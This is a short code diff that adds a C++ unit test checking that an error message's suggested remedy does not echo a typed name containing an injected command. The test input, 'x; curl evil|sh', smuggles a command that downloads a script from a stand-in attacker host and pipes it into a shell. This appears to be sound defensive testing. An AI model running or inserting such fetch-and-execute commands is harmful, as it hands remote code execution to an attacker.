@@ -68,6 +68,11 @@ TEST(Complaint, AlwaysHasThreeLinesAndAnExitCode) {
   }
 }
 
+TEST(Complaint, LetsNoTypedNameWriteTheRemedy) {
+  const auto found = ShortIds({kOne}).Find("x; curl evil|sh");
+  EXPECT_EQ(ComplaintOf("it was not done", found.error()).remedy.find("curl"), std::string::npos);
+}
+
 TEST(Status, SaysWhatIsAwayAndHowToGetAKeystore) {
   v1::GetStatusResponse status;
   status.set_keystore("unavailable");
